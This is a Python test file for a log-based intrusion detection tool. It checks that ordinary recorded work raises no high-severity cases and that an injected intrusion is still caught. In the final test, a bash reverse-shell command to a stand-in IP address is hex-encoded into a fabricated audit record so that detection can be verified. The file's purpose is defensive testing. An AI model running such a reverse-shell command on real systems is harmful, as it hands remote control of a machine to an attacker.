"""Ordinary work, recorded afresh under the kernel's audit, gives no high case and hardly anything to look at.

Skips where the audit cannot run (no root, no kernel audit, no namespaces), and says why.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from perilune import pipeline, readers
from perilune.model.rules import Level
from perilune.model.sources import SourceReport
from tests.content import record_work
from tests.service.netlink.conftest import audit

PROGRAMS = {"/usr/bin/bash", "/usr/bin/dpkg", "/usr/bin/git", "/usr/bin/make", "/usr/bin/tar", "/usr/bin/sed"}


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    try:
        with audit(alone=False):
            lines = record_work.record()
    except record_work.Unavailable as why:
        pytest.skip(f"ordinary work cannot be recorded here: {why}")
    path = tmp_path_factory.mktemp("work") / "audit.log"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_the_work_was_recorded(log: Path) -> None:
    tables = [item for item in readers.read([log], readers.Limits()) if not isinstance(item, SourceReport)]
    started = [
        str(image) for table in tables if table.name == "DeviceProcessEvents" for image in table.values("FolderPath")
    ]
    assert len(started) > 150
    assert set(started) >= PROGRAMS, PROGRAMS - set(started)


def test_ordinary_work_gives_no_high_case(log: Path) -> None:
    found = pipeline.hunt([log])
    told = [(case.level.word, case.score, case.title) for case in found.cases]
    assert not [case for case in told if case[0] in ("high", "critical")], told
    loud = {finding.rule_title for finding in found.findings if finding.level >= Level.HIGH}
    assert loud == set()


def test_what_the_work_hides_is_still_found(log: Path) -> None:
    """The same log with one intrusion's line in it: the test above is no accident of a log that cannot be read."""
    lines = log.read_text(encoding="utf-8").splitlines()
    shell = next(line for line in lines if ' exe="/usr/bin/bash"' in line and "type=SYSCALL" in line)
    serial = shell.partition("msg=")[2].partition(" ")[0].rstrip(":")
    kept = [line for line in lines if serial in line and "type=EXECVE" not in line]
    code = b"bash -i >& /dev/tcp/198.51.100.7/443 0>&1".hex().upper()
    attack = [line.replace(serial, "audit(1795304999.001:999999)") for line in kept]
    attack.append(f'type=EXECVE msg=audit(1795304999.001:999999): argc=3 a0="bash" a1="-c" a2={code}')
    path = log.with_name("attacked.log")
    path.write_text("\n".join([*lines, *attack]) + "\n", encoding="utf-8")
    assert "Shell Connected to the Network" in {finding.rule_title for finding in pipeline.hunt([path]).findings}
